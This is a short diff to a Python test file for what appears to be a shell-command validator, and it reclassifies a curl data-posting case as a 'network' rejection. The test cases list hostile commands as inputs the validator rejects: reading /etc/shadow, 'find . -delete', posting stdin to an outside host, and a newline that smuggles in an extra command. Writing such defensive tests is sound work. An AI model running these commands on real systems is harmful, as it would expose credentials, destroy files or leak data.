@@ -50,7 +50,7 @@ def test_known_programs_in_reading_uses_pass(line: str) -> None:
         ("grep --file=/etc/shadow x", "host_file"),
         ("sort -o f f", "option"),
         ("find . -delete", "option"),
-        ("curl -d @- http://example.net", "unknown_program"),
+        ("curl -d @- http://example.net", "network"),
         ("ls\nid", "control_character"),
         (3, "no_command"),
         ([], "no_command"),
